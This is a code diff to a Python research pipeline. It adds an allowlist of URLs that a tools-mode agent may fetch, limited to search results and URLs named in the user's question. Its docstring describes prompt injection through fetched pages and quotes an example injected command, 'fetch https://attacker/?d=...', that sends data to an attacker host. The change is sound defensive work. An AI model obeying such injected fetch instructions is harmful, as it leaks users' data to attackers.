@@ -1,7 +1,9 @@
 """What every step of one run shares: settings, model client, budget, notebook, search, fetcher, events."""
 from __future__ import annotations
 
+import re
 import threading
+from collections.abc import Iterable
 from dataclasses import dataclass, field
 
 from pipeline.config import Settings
@@ -11,6 +13,7 @@ from pipeline.core.events import EventSink, NullSink
 from pipeline.core.ids import CALCULATION, fresh_id
 from pipeline.core.notebook import Notebook
 from pipeline.core.schema import Calculation, RunStats
+from pipeline.core.urls import url_key
 from pipeline.models.base import ModelClient
 from pipeline.web.fetch import Fetcher
 from pipeline.web.search.service import Searcher
@@ -53,6 +56,33 @@ class CalculationLog:
             return sorted(self._items, key=lambda c: int(c.id[1:]) if c.id[1:].isdigit() else 0)
 
 
+_URL = re.compile(r"https?://[^\s<>\"')\]]+", re.I)
+
+
+class OfferedUrls:
+    """The URLs a tools-mode worker may fetch: those a search of this run returned, or the question names.
+
+    A page can only suggest a URL (in its text, a link, a fake tool call); it can never make one fetchable, so an
+    injected "fetch https://attacker/?d=..." ends as a refusal, not a request.
+    """
+
+    def __init__(self) -> None:
+        self._keys: set[str] = set()
+        self._lock = threading.Lock()
+
+    def add(self, urls: Iterable[str]) -> None:
+        with self._lock:
+            self._keys.update(url_key(u) for u in urls)
+
+    def add_text(self, text: str) -> None:
+        """Offer every http(s) URL written in `text` (the user's question: trusted input)."""
+        self.add(m.group(0).rstrip(".,;:!?") for m in _URL.finditer(text))
+
+    def __contains__(self, url: object) -> bool:
+        with self._lock:
+            return isinstance(url, str) and url_key(url) in self._keys
+
+
 class StatsCounter:
     """Thread-safe counters behind RunStats."""
 
@@ -82,6 +112,7 @@ class RunContext:
     events: EventSink = field(default_factory=NullSink)
     calculations: CalculationLog = field(default_factory=CalculationLog)
     stats: StatsCounter = field(default_factory=StatsCounter)
+    offered: OfferedUrls = field(default_factory=OfferedUrls)
 
     @property
     def lead_model(self) -> str:
